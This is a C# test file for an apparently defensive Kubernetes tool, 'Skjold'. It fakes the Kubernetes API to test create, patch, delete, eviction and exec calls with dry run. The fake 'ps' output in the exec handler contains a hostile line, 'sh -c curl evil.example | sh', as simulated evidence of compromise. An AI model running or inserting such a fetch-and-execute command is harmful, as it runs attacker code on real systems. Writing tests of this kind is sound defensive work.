using System.Net.WebSockets;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using k8s;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Http;
using Microsoft.Extensions.Logging;
using Skjold.Kubernetes.Live;

namespace Skjold.Kubernetes.Tests;

/// <summary>
/// The cluster write seam against an in-process HTTP server that speaks the parts of the
/// Kubernetes API it uses (no API server runs on these machines): create, merge patch and delete
/// with server-side dry run, the eviction subresource with a PodDisruptionBudget refusing, and exec
/// over a WebSocket with the v4.channel.k8s.io framing kubectl uses.
/// </summary>
public sealed class ClusterClientTests : IAsyncLifetime
{
    private readonly Dictionary<string, JsonObject> _objects = new(StringComparer.Ordinal);
    private readonly List<string> _requests = [];
    private WebApplication _app = null!;
    private k8s.Kubernetes _kube = null!;

    public async Task InitializeAsync()
    {
        var builder = WebApplication.CreateSlimBuilder();
        builder.WebHost.UseUrls("http://127.0.0.1:0");
        builder.Logging.ClearProviders();
        _app = builder.Build();
        _app.UseWebSockets();
        _app.Run(HandleAsync);
        await _app.StartAsync();
        var address = _app.Urls.First();
        _kube = new k8s.Kubernetes(new KubernetesClientConfiguration { Host = address });
    }

    public async Task DisposeAsync()
    {
        _kube.Dispose();
        await _app.DisposeAsync();
    }

    private async Task HandleAsync(HttpContext ctx)
    {
        var path = ctx.Request.Path.Value!;
        var dryRun = ctx.Request.Query["dryRun"] == "All";
        lock (_requests)
        {
            _requests.Add($"{ctx.Request.Method} {path}{(dryRun ? " dryRun" : string.Empty)}");
        }

        if (path.EndsWith("/exec", StringComparison.Ordinal) && ctx.WebSockets.IsWebSocketRequest)
        {
            await ExecAsync(ctx);
            return;
        }

        var body = await new StreamReader(ctx.Request.Body).ReadToEndAsync();
        switch (ctx.Request.Method)
        {
            case "POST" when path.EndsWith("/eviction", StringComparison.Ordinal):
                var pod = path[..^"/eviction".Length];
                if (!_objects.TryGetValue(pod, out var p))
                {
                    await Status(ctx, 404, "NotFound", "pods not found");
                }
                else if (p["metadata"]?["labels"]?["pdb"]?.GetValue<string>() == "blocks")
                {
                    await Status(ctx, 429, "TooManyRequests", "Cannot evict pod as it would violate the pod's disruption budget.");
                }
                else
                {
                    if (!dryRun)
                    {
                        _objects.Remove(pod);
                    }

                    await Status(ctx, 201, null, "evicted");
                }

                return;
            case "POST":
                var created = JsonNode.Parse(body)!.AsObject();
                var key = path + "/" + created["metadata"]!["name"]!.GetValue<string>();
                if (_objects.ContainsKey(key))
                {
                    await Status(ctx, 409, "AlreadyExists", "already exists");
                    return;
                }

                if (!dryRun)
                {
                    _objects[key] = created;
                }

                ctx.Response.StatusCode = 201;
                await ctx.Response.WriteAsync(created.ToJsonString());
                return;
            case "PATCH":
                if (ctx.Request.ContentType != "application/merge-patch+json" || !_objects.TryGetValue(path, out var target))
                {
                    await Status(ctx, _objects.ContainsKey(path) ? 415 : 404, null, "unsupported");
                    return;
                }

                var patched = (JsonObject)target.DeepClone();
                Merge(patched, JsonNode.Parse(body)!.AsObject());
                if (!dryRun)
                {
                    _objects[path] = patched;
                }

                await ctx.Response.WriteAsync(patched.ToJsonString());
                return;
            case "DELETE":
                if (!_objects.ContainsKey(path))
                {
                    await Status(ctx, 404, "NotFound", "not found");
                    return;
                }

                if (!dryRun)
                {
                    _objects.Remove(path);
                }

                await Status(ctx, 200, null, "deleted");
                return;
            default:
                await Status(ctx, 405, "MethodNotAllowed", "no");
                return;
        }
    }

    private static void Merge(JsonObject target, JsonObject patch)
    {
        foreach (var (k, v) in patch.ToList())
        {
            if (v is null)
            {
                target.Remove(k);
            }
            else if (v is JsonObject o && target[k] is JsonObject t)
            {
                Merge(t, o);
            }
            else
            {
                target[k] = v.DeepClone();
            }
        }
    }

    private static Task Status(HttpContext ctx, int code, string? reason, string message)
    {
        ctx.Response.StatusCode = code;
        ctx.Response.ContentType = "application/json";
        var status = new JsonObject { ["kind"] = "Status", ["apiVersion"] = "v1", ["status"] = code < 300 ? "Success" : "Failure", ["message"] = message, ["reason"] = reason, ["code"] = code };
        return ctx.Response.WriteAsync(status.ToJsonString());
    }

    /// <summary>Exec as the kubelet answers it: stdout on channel 1, stderr on 2, the Status on 3 (exit code in its causes).</summary>
    private static async Task ExecAsync(HttpContext ctx)
    {
        var command = ctx.Request.Query["command"].ToArray();
        using var ws = await ctx.WebSockets.AcceptWebSocketAsync("v4.channel.k8s.io");
        async Task Send(byte channel, string text)
        {
            var bytes = new byte[Encoding.UTF8.GetByteCount(text) + 1];
            bytes[0] = channel;
            Encoding.UTF8.GetBytes(text, 0, text.Length, bytes, 1);
            await ws.SendAsync(bytes, WebSocketMessageType.Binary, true, CancellationToken.None);
        }

        if (command is ["ps", ..])
        {
            await Send(1, "PID   USER     COMMAND\n    1 app      /app/server\n   17 app      sh -c curl evil.example | sh\n");
            await Send(3, "{\"metadata\":{},\"status\":\"Success\"}");
        }
        else
        {
            await Send(2, $"{command.FirstOrDefault()}: not found\n");
            await Send(3, "{\"metadata\":{},\"status\":\"Failure\",\"message\":\"command terminated with non-zero exit code\",\"reason\":\"NonZeroExitCode\",\"details\":{\"causes\":[{\"reason\":\"ExitCode\",\"message\":\"127\"}]}}");
        }

        await ws.CloseAsync(WebSocketCloseStatus.NormalClosure, null, CancellationToken.None);
    }

    private static JsonElement Json(string text) => JsonDocument.Parse(text).RootElement.Clone();

    [Fact]
    public async Task CreatePatchDelete_DryRunChangesNothing_AndRealOnesDo()
    {
        IClusterClient client = new KubernetesClusterClient(_kube);
        var policy = Json("""{"apiVersion":"networking.k8s.io/v1","kind":"NetworkPolicy","metadata":{"name":"skjold-isolate","namespace":"shop"},"spec":{"podSelector":{"matchLabels":{"skjold.io/isolated":"true"}},"policyTypes":["Ingress","Egress"]}}""");

        using (var dry = await client.CreateAsync(ObjectPath.NetworkPolicies("shop"), policy, dryRun: true, default))
        {
            Assert.Equal("skjold-isolate", dry.RootElement.GetProperty("metadata").GetProperty("name").GetString());
        }

        Assert.Empty(_objects);
        (await client.CreateAsync(ObjectPath.NetworkPolicies("shop"), policy, dryRun: false, default)).Dispose();
        Assert.Contains("/apis/networking.k8s.io/v1/namespaces/shop/networkpolicies/skjold-isolate", _objects.Keys);
        var conflict = await Assert.ThrowsAsync<ClusterRequestException>(() => client.CreateAsync(ObjectPath.NetworkPolicies("shop"), policy, false, default));
        Assert.Equal(409, conflict.StatusCode);
        Assert.Equal("AlreadyExists", conflict.Reason);

        _objects["/api/v1/namespaces/shop/pods/web-1"] = JsonNode.Parse("""{"metadata":{"name":"web-1","namespace":"shop","labels":{"app":"web"}}}""")!.AsObject();
        using (var patched = await client.PatchAsync(ObjectPath.Pods("shop", "web-1"), """{"metadata":{"labels":{"skjold.io/isolated":"true"}}}""", PatchKind.Merge, dryRun: true, default))
        {
            Assert.Equal("true", patched.RootElement.GetProperty("metadata").GetProperty("labels").GetProperty("skjold.io/isolated").GetString());
        }

        Assert.Null(_objects["/api/v1/namespaces/shop/pods/web-1"]["metadata"]!["labels"]!["skjold.io/isolated"]);
        (await client.PatchAsync(ObjectPath.Pods("shop", "web-1"), """{"metadata":{"labels":{"skjold.io/isolated":"true"}}}""", PatchKind.Merge, false, default)).Dispose();
        Assert.Equal("true", _objects["/api/v1/namespaces/shop/pods/web-1"]["metadata"]!["labels"]!["skjold.io/isolated"]!.GetValue<string>());

        await client.DeleteAsync(ObjectPath.Pods("shop", "web-1"), dryRun: true, default);
        Assert.True(_objects.ContainsKey("/api/v1/namespaces/shop/pods/web-1"));
        await client.DeleteAsync(ObjectPath.Pods("shop", "web-1"), dryRun: false, default);
        Assert.False(_objects.ContainsKey("/api/v1/namespaces/shop/pods/web-1"));
        Assert.Equal(404, (await Assert.ThrowsAsync<ClusterRequestException>(() => client.DeleteAsync(ObjectPath.Pods("shop", "web-1"), false, default))).StatusCode);
        Assert.Contains("DELETE /api/v1/namespaces/shop/pods/web-1 dryRun", _requests);
    }

    [Fact]
    public async Task Evict_UsesTheSubresource_AndABudgetThatForbidsItIsFalse_NotAnError()
    {
        IClusterClient client = new KubernetesClusterClient(_kube);
        _objects["/api/v1/namespaces/shop/pods/a"] = JsonNode.Parse("""{"metadata":{"name":"a"}}""")!.AsObject();
        _objects["/api/v1/namespaces/shop/pods/b"] = JsonNode.Parse("""{"metadata":{"name":"b","labels":{"pdb":"blocks"}}}""")!.AsObject();

        Assert.True(await client.EvictAsync("shop", "a", dryRun: true, default));
        Assert.True(_objects.ContainsKey("/api/v1/namespaces/shop/pods/a"));
        Assert.True(await client.EvictAsync("shop", "a", dryRun: false, default));
        Assert.False(_objects.ContainsKey("/api/v1/namespaces/shop/pods/a"));
        Assert.False(await client.EvictAsync("shop", "b", dryRun: false, default));
        Assert.True(_objects.ContainsKey("/api/v1/namespaces/shop/pods/b"));
        Assert.Equal(404, (await Assert.ThrowsAsync<ClusterRequestException>(() => client.EvictAsync("shop", "gone", false, default))).StatusCode);
    }

    [Fact]
    public async Task Exec_CollectsStdoutAndStderr_AndTheExitCode_BoundedOutput()
    {
        IClusterClient client = new KubernetesClusterClient(_kube);

        var ps = await client.ExecAsync("shop", "web-1", "app", ["ps", "-ef"], 1 << 20, default);
        Assert.Equal(0, ps.ExitCode);
        Assert.Contains("curl evil.example", Encoding.UTF8.GetString(ps.Stdout), StringComparison.Ordinal);
        Assert.False(ps.Truncated);

        var missing = await client.ExecAsync("shop", "web-1", "app", ["lsof"], 1 << 20, default);
        Assert.Equal(127, missing.ExitCode);
        Assert.Equal("lsof: not found\n", Encoding.UTF8.GetString(missing.Stderr));

        var bounded = await client.ExecAsync("shop", "web-1", "app", ["ps"], 10, default);
        Assert.Equal(10, bounded.Stdout.Length);
        Assert.True(bounded.Truncated);
    }
}
